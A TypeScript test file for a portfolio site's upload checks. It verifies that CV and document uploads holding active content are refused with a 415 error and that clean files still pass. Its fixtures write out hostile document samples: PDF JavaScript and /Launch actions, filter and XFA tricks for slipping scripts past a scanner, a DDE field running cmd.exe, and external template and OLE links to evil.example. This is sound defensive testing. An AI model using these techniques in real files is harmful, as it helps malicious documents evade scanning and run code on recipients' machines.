import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  API,
  APPLICATION_TOKEN_FIELD,
  CAREER_MESSAGES as CM,
  CAREERS_API,
  DOCUMENTS_API,
  DOCUMENT_MESSAGES as DM,
  ENQUIRY_LIMITS,
  type Job,
} from '@portfolio/contract';
import { Agent, signIn } from '@portfolio/testkit/api';
import { sql } from '@portfolio/testkit/db';
import {
  PACKAGE_ENTRIES,
  VBA_ENTRIES,
  doc,
  docx,
  exe,
  filtered,
  multipart,
  objectStream,
  ole2,
  pdf,
  pdfOf,
  rels,
  xfaWithScript,
  zip,
  type PdfFilter,
} from '@portfolio/testkit/documents';
import { file, form, uploadedFiles } from '@portfolio/testkit/files';
import { ADMIN, startServer, type TestServer } from '@portfolio/testkit/server';

/**
 * CVs were not checked for active content at all (a PDF with
 * /OpenAction JavaScript and /Launch, a DOCX with an external attachedTemplate and an embedded
 * .exe, a .doc with a VBA project were accepted), and the documents library's PDF check could be
 * bypassed by JavaScript in an object stream under another filter than Flate and by an XFA form's
 * <script>. Each is refused (415) with a message naming what was found, nothing is stored, and
 * clean files still go through.
 */
let server: TestServer;
let admin: Agent;
let job: Job;
const tokens: string[] = [];
let ip = 0;

beforeAll(async () => {
  server = await startServer({
    TRUST_PROXY: 'true',
    APPLICATION_MAX_PER_IP: '1000',
    APPLICATION_MAX_PER_EMAIL: '1000',
  });
  admin = await signIn(server.url, ADMIN.email, ADMIN.password);
  const res = await admin.post<{ job: Job }>(CAREERS_API.jobs, {
    title: 'Site Engineer',
    state: 'Maharashtra',
    city: 'Pune',
    employmentType: 'FULL_TIME',
    description: 'Run day-to-day work on a hospital fit-out site.',
    closingDate: null,
  });
  expect(res.status).toBe(201);
  job = res.body.job;
  // One form token per application (each token sends one form), all shown long enough ago.
  const anonymous = new Agent(server.url);
  while (tokens.length < 60) {
    const token = (await anonymous.get(API.enquiryFormToken)).body.token as string;
    if (!tokens.includes(token)) tokens.push(token);
  }
  await new Promise((r) => setTimeout(r, ENQUIRY_LIMITS.minFillMs + 200));
});
afterAll(() => server?.stop());

const apply = async (bytes: Buffer, name: string) => {
  const fd = new FormData();
  const n = ++ip;
  for (const [k, v] of Object.entries({
    name: 'Ravi Kumar',
    email: `ravi${n}@example.com`,
    phone: '+91 98200 12345',
    message: 'Hello.',
    [APPLICATION_TOKEN_FIELD]: tokens.pop()!,
  }))
    fd.append(k, v);
  fd.append('cv', new File([bytes], name, { type: 'application/octet-stream' }));
  const { body, contentType } = await multipart(fd);
  const res = await fetch(server.url + CAREERS_API.apply(job._id), {
    method: 'POST',
    headers: {
      'content-type': contentType,
      'x-forwarded-for': `10.9.${n >> 8}.${n & 255}`,
      accept: 'application/json',
    },
    body,
  });
  return { status: res.status, body: (await res.json()) as { message: string; errors?: Record<string, string> } };
};

const count = async (table: string) =>
  Number((await sql<{ n: number }>(server, `select count(*) as n from ${table}`))[0].n);
const stored = async () => [await count('installer_applications'), await count('installer_application_cvs')];

const JS_ACTION = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const GOTO_ACTION = '<< /S /GoTo /D [0 /Fit] >>';
/** A PDF whose catalog's /OpenAction (object 4) lives in an object stream under `filters`. */
const pdfWithAction = (action: string, filters: PdfFilter[]) =>
  pdfOf([objectStream(action, filters)], '/OpenAction 4 0 R');

const FILTER_CHAINS: PdfFilter[][] = [
  ['ASCIIHexDecode'],
  ['ASCII85Decode'],
  ['RunLengthDecode'],
  ['LZWDecode'],
  ['ASCIIHexDecode', 'FlateDecode'],
  ['ASCII85Decode', 'LZWDecode'],
];

/** PDFs hiding a script, refused by both the documents library and CVs: [label, bytes, risk]. */
const pdfBypasses = (): Array<[string, Buffer, 'javascript' | 'unreadable']> => [
  ...FILTER_CHAINS.map((chain): [string, Buffer, 'javascript'] => [
    `JavaScript in an object stream under ${chain.join(' + ')}`,
    pdfWithAction(JS_ACTION, chain),
    'javascript',
  ]),
  [
    'an XFA form (/XFA) whose template holds a <script>',
    pdfOf([filtered(xfaWithScript, ['ASCIIHexDecode'])], '/AcroForm << /Fields [] /XFA 3 0 R >>'),
    'javascript',
  ],
  [
    'an XFA <script> packet in an ASCIIHex stream, without the /XFA name',
    pdfOf([filtered(xfaWithScript, ['ASCIIHexDecode'])]),
    'javascript',
  ],
  ['an XFA <script> packet in a Flate stream under a PNG predictor', pdfOf([predicted(xfaWithScript)]), 'javascript'],
  [
    'JavaScript in an ASCIIHex stream behind a comment between its dictionary and "stream"',
    Buffer.from(
      `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /OpenAction 3 0 R >>\nendobj\n3 0 obj\n<< /Filter /ASCIIHexDecode >>% a comment\nstream\n${Buffer.from(JS_ACTION).toString('hex')}>\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`,
      'latin1',
    ),
    'javascript',
  ],
  [
    'a stream under a filter the checker cannot decode',
    pdfOf([{ dict: '/Filter /JBIG3Decode', data: Buffer.from('opaque bytes') }]),
    'unreadable',
  ],
  [
    'a stream whose filter is an indirect object',
    pdfOf([{ dict: '/Filter 9 0 R', data: Buffer.from('opaque bytes') }]),
    'unreadable',
  ],
  [
    'an encrypted PDF (its streams cannot be read)',
    Buffer.from(
      pdf().toString('latin1').replace('trailer << /Root 1 0 R >>', 'trailer << /Root 1 0 R /Encrypt 5 0 R >>'),
      'latin1',
    ),
    'unreadable',
  ],
];

/** Flate data under the PNG "Up" predictor (rows of 8 bytes), as xref and object streams may be written. */
function predicted(text: string) {
  const raw = Buffer.from(text, 'latin1');
  const rows: Buffer[] = [];
  for (let i = 0; i < raw.length; i += 8) {
    const row = Buffer.concat([raw.subarray(i, i + 8), Buffer.alloc(Math.max(0, i + 8 - raw.length))]);
    const previous = i ? Buffer.concat([raw.subarray(i - 8, i)]) : Buffer.alloc(8);
    rows.push(Buffer.from([2, ...row.map((b, k) => (b - previous[k]) & 0xff)]));
  }
  const { dict, data } = filtered(Buffer.concat(rows), ['FlateDecode']);
  return { dict: `${dict} /DecodeParms << /Predictor 12 /Columns 8 >>`, data };
}

/** Clean PDFs that must still pass: filtered object streams without scripts, a Flate content stream. */
const cleanPdfs = (): Array<[string, Buffer]> => [
  ['a plain PDF', pdf()],
  ...FILTER_CHAINS.map((chain): [string, Buffer] => [
    `a GoTo action in an object stream under ${chain.join(' + ')}`,
    pdfWithAction(GOTO_ACTION, chain),
  ]),
  [
    'a Flate content stream mentioning <script> as text',
    pdfOf([filtered('BT /F1 12 Tf (I write <script> tags for a living) Tj ET', ['FlateDecode'])]),
  ],
];

const PDF_MESSAGES = {
  document: { javascript: DM.pdfJavaScript, unreadable: DM.pdfUnreadable },
  cv: { javascript: CM.cvJavaScript, unreadable: CM.cvUnreadable },
};

describe('the documents library decodes every PDF filter', () => {
  let n = 0;
  const upload = (bytes: Buffer) =>
    admin.post(
      DOCUMENTS_API.documents,
      form({
        title: `Test report ${++n}`,
        category: 'test report',
        file: file(bytes, 'report.pdf', 'application/pdf'),
      }),
    );
  const snapshot = async () => ({
    files: uploadedFiles(server.publicDir),
    documents: (await admin.get(DOCUMENTS_API.documents)).body,
  });

  it('refuses JavaScript under ASCIIHex, ASCII85, RunLength, LZW and chained filters, XFA scripts and what it cannot decode (415), storing nothing', async () => {
    const before = await snapshot();
    for (const [label, bytes, risk] of pdfBypasses()) {
      const res = await upload(bytes);
      expect(res.status, label).toBe(415);
      expect(res.body, label).toEqual({ message: PDF_MESSAGES.document[risk] });
    }
    expect(await snapshot()).toEqual(before);
  });

  it('still stores clean PDFs whose streams use those filters', async () => {
    for (const [label, bytes] of cleanPdfs()) expect((await upload(bytes)).status, label).toBe(201);
  });
});

describe('CVs are checked for active content', () => {
  const expectRefused = async (cases: Array<[string, Buffer, string, string]>) => {
    const before = await stored();
    for (const [label, bytes, name, message] of cases) {
      const res = await apply(bytes, name);
      expect(res.status, label).toBe(415);
      expect(res.body, label).toMatchObject({ message, errors: { cv: message } });
    }
    expect(await stored()).toEqual(before);
  };

  it('refuses PDFs with /OpenAction JavaScript, /Launch, attachments, and every filter and XFA bypass', async () => {
    await expectRefused([
      ['/OpenAction JavaScript', pdfOf([], `/OpenAction ${JS_ACTION}`), 'cv.pdf', CM.cvJavaScript],
      ['a Flate object stream with JavaScript', pdfWithAction(JS_ACTION, ['FlateDecode']), 'cv.pdf', CM.cvJavaScript],
      ['a /Launch action', pdfOf([], '/OpenAction << /S /Launch /F (cmd.exe) >>'), 'cv.pdf', CM.cvLaunch],
      [
        'an embedded file',
        pdfOf([], '/Names << /EmbeddedFiles << /Names [(setup.exe) 6 0 R] >> >>'),
        'cv.pdf',
        CM.cvEmbeddedFile,
      ],
      ...pdfBypasses().map(([label, bytes, risk]): [string, Buffer, string, string] => [
        label,
        bytes,
        'cv.pdf',
        PDF_MESSAGES.cv[risk],
      ]),
    ]);
  });

  it('refuses DOCX files with macros, external templates or objects, embedded programs and OLE packages, and automatic DDE fields', async () => {
    const templateRels = rels({ type: 'attachedTemplate', target: 'https://evil.example/cv.dotm', external: true });
    const documentXml = (instr: string) =>
      `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${instr}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>`;
    await expectRefused([
      ['word/vbaProject.bin', docx({ 'word/vbaProject.bin': Buffer.from('VBA') }), 'cv.docx', CM.cvMacros],
      ['a vbaProject.bin elsewhere', docx({ 'custom/VBAPROJECT.BIN': Buffer.from('VBA') }), 'cv.docx', CM.cvMacros],
      [
        'a macro-enabled main part (a .docm renamed)',
        docx({
          '[Content_Types].xml':
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
        }),
        'cv.docx',
        CM.cvMacros,
      ],
      [
        'an automatic DDE field split across runs',
        docx({
          'word/document.xml': documentXml(
            'DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"',
          ),
        }),
        'cv.docx',
        CM.cvMacros,
      ],
      [
        'an external attachedTemplate',
        docx({ 'word/settings.xml': '<w:settings/>', 'word/_rels/settings.xml.rels': templateRels }),
        'cv.docx',
        CM.cvExternalReference,
      ],
      [
        'an external OLE object (single quotes, an entity in TargetMode)',
        docx({
          'word/_rels/document.xml.rels': `<Relationships><Relationship Id='rId9' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject' Target='\\\\evil.example\\share\\x.xlsx' TargetMode='Exte&#114;nal'/></Relationships>`,
        }),
        'cv.docx',
        CM.cvExternalReference,
      ],
      [
        'a UTF-16 relationships part with an external template',
        docx({
          'word/_rels/settings.xml.rels': Buffer.concat([
            Buffer.from([0xff, 0xfe]),
            Buffer.from(templateRels, 'utf16le'),
          ]),
        }),
        'cv.docx',
        CM.cvExternalReference,
      ],
      ['an embedded .exe', docx({ 'word/embeddings/setup.exe': exe() }), 'cv.docx', CM.cvExecutable],
      ['a program under another name', docx({ 'word/media/image1.png': exe() }), 'cv.docx', CM.cvExecutable],
      [
        'an OLE package (Ole10Native) object',
        docx({ 'word/embeddings/oleObject1.bin': doc(PACKAGE_ENTRIES) }),
        'cv.docx',
        CM.cvExecutable,
      ],
      [
        'an embedded workbook with macros',
        docx({
          'word/embeddings/Book1.xlsm': zip({
            '[Content_Types].xml': '<Types/>',
            'xl/vbaProject.bin': Buffer.from('VBA'),
          }),
        }),
        'cv.docx',
        CM.cvMacros,
      ],
    ]);
  });

  it('refuses a Word 97-2003 .doc with a VBA project or an OLE package, and one whose directory cannot be read', async () => {
    await expectRefused([
      ['a .doc with Macros/VBA/_VBA_PROJECT', doc(VBA_ENTRIES), 'cv.doc', CM.cvMacros],
      [
        'a .doc with only a _VBA_PROJECT stream',
        doc([{ name: '_VBA_PROJECT', type: 'stream' }]),
        'cv.doc',
        CM.cvMacros,
      ],
      ['a .doc with an embedded OLE package', doc(PACKAGE_ENTRIES), 'cv.doc', CM.cvExecutable],
      [
        'a compound file without a WordDocument stream (a workbook)',
        ole2([{ name: 'Workbook', type: 'stream' }]),
        'cv.doc',
        CM.cvInvalid,
      ],
      ['a .doc whose directory is cut short', doc().subarray(0, 1024), 'cv.doc', CM.cvInvalid],
    ]);
  });

  it('still accepts clean CVs: PDFs with filtered streams, a DOCX with a hyperlink and an embedded chart workbook, a plain .doc', async () => {
    const clean: Array<[string, Buffer, string]> = [
      ...cleanPdfs().map(([label, bytes]): [string, Buffer, string] => [label, bytes, 'cv.pdf']),
      [
        'a DOCX with a LinkedIn hyperlink and a chart workbook',
        docx({
          'word/_rels/document.xml.rels': rels(
            { type: 'hyperlink', target: 'https://www.linkedin.com/in/ravi', external: true },
            { type: 'chart', target: 'charts/chart1.xml' },
          ),
          'word/charts/chart1.xml': '<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"/>',
          'word/charts/_rels/chart1.xml.rels': rels({
            type: 'package',
            target: '../embeddings/Microsoft_Excel_Worksheet.xlsx',
          }),
          'word/embeddings/Microsoft_Excel_Worksheet.xlsx': zip({
            '[Content_Types].xml': '<Types/>',
            'xl/workbook.xml': '<workbook/>',
          }),
        }),
        'cv.docx',
      ],
      ['a plain .doc', doc(), 'cv.doc'],
    ];
    for (const [label, bytes, name] of clean) {
      const res = await apply(bytes, name);
      expect(res.status, `${label}: ${res.body.message}`).toBe(201);
    }
  });
});
